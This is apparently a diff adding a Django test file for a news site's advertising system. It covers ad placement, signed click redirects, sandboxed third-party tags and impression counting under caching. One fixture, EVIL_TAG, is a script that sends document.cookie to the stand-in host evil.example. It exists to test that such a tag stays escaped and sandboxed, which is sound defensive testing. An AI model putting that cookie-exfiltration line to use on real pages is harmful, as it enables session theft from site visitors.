@@ -1,0 +1,257 @@
+"""Ads on the public pages and the two ad endpoints: safe third-party code, signed clicks,
+honest counts — also when pages come from a cache."""
+
+import html
+import re
+from urllib.parse import urlsplit
+
+import pytest
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+
+from ads import counters
+from ads.models import Creative, DailyStat
+from articles.models import Block
+from tests.factories import SectionFactory, book, live_article
+
+pytestmark = pytest.mark.django_db
+
+EVIL_TAG = '<div id="x">ad</div><script>fetch("https://evil.example/?" + document.cookie)</script>'
+
+
+@pytest.fixture
+def article():
+    """A live Ukrainian-and-English article with eight paragraphs and a quote."""
+    story = live_article(["uk", "en"], title_uk="Новина", title_en="News")
+    kinds = ["source", "paragraph", "quote", "paragraph", "paragraph", "paragraph", "paragraph"]
+    for code in ["uk", "en"]:
+        for position, kind in enumerate([*kinds, "paragraph", "paragraph"]):
+            Block.objects.create(
+                article=story, language=code, kind=kind, text="<p>Текст.</p>", position=position
+            )
+    return story
+
+
+def frames(page):
+    """{slot code: frame src} of the ad slots in a page, in page order."""
+    return {
+        code: html.unescape(src)
+        for code, src in re.findall(
+            r'data-slot="([^"]+)"[^>]*>\s*<p class="ad-label">[^<]*</p>\s*'
+            r'<iframe class="ad-frame" src="([^"]+)"',
+            page,
+        )
+    }
+
+
+def test_ads_show_where_the_rule_puts_them(client, article):
+    """Body ads go after block 4 (not next to the quote) and 6, then one after the tags, in
+    the page's language, each in a sandboxed frame of its slot's reserved size."""
+    book("article_body_1", "article_body_2", "article_after_tags")
+    page = client.get(article.get_absolute_url("uk")).content.decode()
+    assert list(frames(page)) == ["article_body_1", "article_body_2", "article_after_tags"]
+    body = page[page.index('class="article-body"') : page.index('class="support-cta"')]
+    before_first_ad = body[: body.index('data-slot="article_body_1"')]
+    assert before_first_ad.count('class="block ') == 4
+    before_second_ad = body[: body.index('data-slot="article_body_2"')]
+    assert before_second_ad.count('class="block ') == 6
+    assert '<p class="ad-label">Реклама</p>' in page
+    assert 'style="--ad-w:300px;--ad-h:250px;--ad-ww:336px;--ad-hw:280px"' in page
+    sandboxes = re.findall(r'<iframe class="ad-frame"[^>]*sandbox="([^"]+)"', page)
+    assert sandboxes and all("allow-same-origin" not in s for s in sandboxes)
+    english = client.get(article.get_absolute_url("en")).content.decode()
+    assert '<p class="ad-label">Advertisement</p>' in english
+
+
+def test_the_article_can_switch_ads_off_per_language(client, article):
+    """ "No ads in: uk" empties the Ukrainian page of ads and leaves the English one as is."""
+    book("article_body_1", "sidebar_top", "header")
+    article.ads_off_in = ["uk"]
+    article.save()
+    assert "data-slot" not in client.get(article.get_absolute_url("uk")).content.decode()
+    assert len(frames(client.get(article.get_absolute_url("en")).content.decode())) == 3
+
+
+def test_news_lists_get_an_ad_every_n_items(client):
+    """All news with 14 items: a feed ad after the 6th and 12th, as list items."""
+    for _ in range(14):
+        live_article(["uk"])
+    book("feed_inline")
+    page = client.get("/news/").content.decode()
+    items = re.findall(r'<li class="(news-item|ad ad-feed)', page)
+    ads = [index for index, kind in enumerate(items) if kind == "ad ad-feed"]
+    assert ads == [6, 13]
+
+
+def test_section_pages_and_articles_get_their_sections_ads(client, article):
+    """A creative for one section shows on its articles and its page, not elsewhere."""
+    other = SectionFactory()
+    book("sidebar_top", sections=[article.section])
+    assert "sidebar_top" in frames(client.get(article.get_absolute_url("uk")).content.decode())
+    section_page = client.get(article.section.get_absolute_url()).content.decode()
+    assert frames(section_page)["sidebar_top"].endswith(f"s={article.section_id}")
+    assert "sidebar_top" not in frames(client.get(other.get_absolute_url()).content.decode())
+    assert "sidebar_top" not in frames(client.get("/").content.decode())
+
+
+def test_a_third_party_tag_lives_only_inside_a_sandboxed_srcdoc_frame(client, article):
+    """The page holds no trace of the tag; the frame's document holds it only escaped, in the
+    srcdoc of a frame sandboxed without allow-same-origin, and is itself sandboxed by CSP."""
+    book("article_body_1", kind="html", html=EVIL_TAG, image=None, alt_text="", link_url="")
+    page = client.get(article.get_absolute_url("uk")).content.decode()
+    assert "evil.example" not in page and "document.cookie" not in page
+    assert page.count("<script") == page.count('<script type="application/ld+json">')
+
+    response = client.get(frames(page)["article_body_1"])
+    assert response.status_code == 200
+    frame = response.content.decode()
+    assert "<script" not in frame  # only as &lt;script&gt; inside srcdoc
+    srcdoc = re.search(r'<iframe [^>]*sandbox="([^"]+)" srcdoc="([^"]*)"', frame)
+    assert srcdoc and "allow-same-origin" not in srcdoc.group(1)
+    assert html.unescape(srcdoc.group(2)) == EVIL_TAG
+    assert response["Content-Security-Policy"] == (
+        "sandbox allow-scripts allow-popups allow-popups-to-escape-sandbox"
+    )
+    assert "no-store" in response["Cache-Control"]
+    assert response["X-Frame-Options"] == "SAMEORIGIN"
+    assert "Set-Cookie" not in response and not response.cookies
+
+
+def test_an_image_creative_links_through_the_signed_click_address(client):
+    """The frame shows the image with its alt text, linking with rel="sponsored noopener"."""
+    creative = book("sidebar_top", alt_text="Хліб щоранку")
+    frame = client.get("/ads/slot/sidebar_top/?l=uk").content.decode()
+    link = re.search(r'<a href="([^"]+)" target="_blank" rel="sponsored noopener"><img ', frame)
+    assert link and link.group(1) == creative.get_absolute_url()
+    assert link.group(1).startswith("/ads/click/")
+    assert 'alt="Хліб щоранку"' in frame and 'width="300" height="250"' in frame
+
+
+def test_a_valid_click_redirects_and_counts(client):
+    """A signed click address answers 302 to the creative's link and counts one click."""
+    creative = book("sidebar_top")
+    response = client.get(creative.get_absolute_url())
+    assert response.status_code == 302
+    assert response["Location"] == creative.link_url
+    counters.flush()
+    assert DailyStat.objects.get(creative=creative).clicks == 1
+
+
+@pytest.mark.parametrize(
+    "mangle",
+    [
+        lambda token: token[:-1] + ("A" if token[-1] != "A" else "B"),  # signature changed
+        lambda token: "9" + token,  # another creative's id, old signature
+        lambda token: "https:evil.example",
+        lambda token: "",
+    ],
+)
+def test_a_tampered_click_token_is_a_404_and_counts_nothing(client, mangle):
+    """No redirect anywhere for an address we did not sign; nothing is counted."""
+    creative = book("sidebar_top")
+    url = f"/ads/click/{mangle(creative.click_token())}/"
+    response = client.get(url)
+    assert response.status_code == 404
+    counters.flush()
+    assert not DailyStat.objects.exists()
+
+
+def test_a_click_for_a_deleted_creative_is_a_404(client):
+    """A signed address of a creative that is gone leads nowhere."""
+    creative = book("sidebar_top")
+    url = creative.get_absolute_url()
+    Creative.objects.filter(pk=creative.pk).delete()
+    assert client.get(url).status_code == 404
+
+
+def test_an_unknown_slot_or_language_is_a_404(client):
+    """The frame address does not serve made-up slots or languages."""
+    book("sidebar_top")
+    assert client.get("/ads/slot/nope/?l=uk").status_code == 404
+    assert client.get("/ads/slot/sidebar_top/?l=xx").status_code == 404
+
+
+def test_an_empty_slot_frame_is_empty_and_counts_nothing(client):
+    """Served after its booking ended (a cached page), the frame is blank; no impression."""
+    response = client.get("/ads/slot/sidebar_top/?l=uk")
+    assert response.status_code == 200
+    assert "<a " not in response.content.decode() and "<iframe" not in response.content.decode()
+    counters.flush()
+    assert not DailyStat.objects.exists()
+
+
+def test_counting_and_rotation_keep_working_when_pages_are_cached(client, settings, article):
+    """The second view of a page comes from the page cache without a query, yet each view's
+    frames are served (and counted) one by one, and rotate."""
+    # Django's whole-page cache stands in for the CDN or nginx cache of production.
+    settings.MIDDLEWARE = [
+        "django.middleware.cache.UpdateCacheMiddleware",
+        *settings.MIDDLEWARE,
+        "django.middleware.cache.FetchFromCacheMiddleware",
+    ]
+    settings.CACHE_MIDDLEWARE_SECONDS = 300
+    first, second = book("sidebar_top", weight=1), book("sidebar_top", weight=1)
+    url = article.get_absolute_url("uk")
+    page = client.get(url).content.decode()
+    with CaptureQueriesContext(connection) as queries:
+        cached = client.get(url).content.decode()
+    assert cached == page and len(queries) == 0
+    src = frames(page)["sidebar_top"]
+    shown = set()
+    for _ in range(40):
+        frame = client.get(src).content.decode()
+        shown.add(first.pk if first.get_absolute_url() in frame else second.pk)
+    counters.flush()
+    totals = {row.creative_id: row.impressions for row in DailyStat.objects.all()}
+    assert sum(totals.values()) == 40
+    assert shown == {first.pk, second.pk}  # both ran: chosen per view, not per cached page
+    assert urlsplit(src).path == "/ads/slot/sidebar_top/"
+
+
+def test_serving_an_ad_writes_no_row_per_view(client, settings, django_assert_num_queries):
+    """Counted in the database: one UPDATE per view after the day's first INSERT; counted in
+    Redis: no query at all, and a flush writes the day's sum."""
+    creative = book("sidebar_top")
+    settings.ADS_COUNTS_REDIS_URL = ""
+    client.get("/ads/slot/sidebar_top/?l=uk")  # builds the plan, creates the day's row
+    with CaptureQueriesContext(connection) as queries:
+        for _ in range(5):
+            client.get("/ads/slot/sidebar_top/?l=uk")
+    statements = [q["sql"].split()[0].upper() for q in queries.captured_queries]
+    assert statements == ["UPDATE"] * 5
+    assert DailyStat.objects.get(creative=creative).impressions == 6
+
+
+def test_serving_with_redis_makes_no_query(client, settings, redis_counts):
+    """With Redis the impressions cost no query; the flush adds them to the day's row."""
+    creative = book("sidebar_top")
+    client.get("/ads/slot/sidebar_top/?l=uk")
+    with CaptureQueriesContext(connection) as queries:
+        for _ in range(5):
+            client.get("/ads/slot/sidebar_top/?l=uk")
+    assert len(queries) == 0
+    assert counters.pending() == {(creative.pk, "impressions"): 6}
+    counters.flush()
+    assert DailyStat.objects.get(creative=creative).impressions == 6
+    assert counters.pending() == {}
+
+
+def test_the_article_page_costs_no_extra_query_for_ads(client, article):
+    """With slots booked, the article page makes as many queries as with none (warm plan)."""
+    url = article.get_absolute_url("uk")
+    client.get(url)
+    with CaptureQueriesContext(connection) as without_ads:
+        client.get(url)
+    book("article_body_1", "article_body_2", "sidebar_top", "header", "footer")
+    client.get(url)
+    with CaptureQueriesContext(connection) as with_ads:
+        page = client.get(url).content.decode()
+    assert len(frames(page)) == 5
+    assert len(with_ads) == len(without_ads)
+
+
+def test_editors_previewing_a_draft_see_no_ads_and_count_none(admin_client, article):
+    """The article preview of the admin has no ad frames."""
+    book("article_body_1", "sidebar_top")
+    page = admin_client.get(f"/admin/articles/article/{article.pk}/preview/uk/").content.decode()
+    assert "Новина" in page and "data-slot" not in page
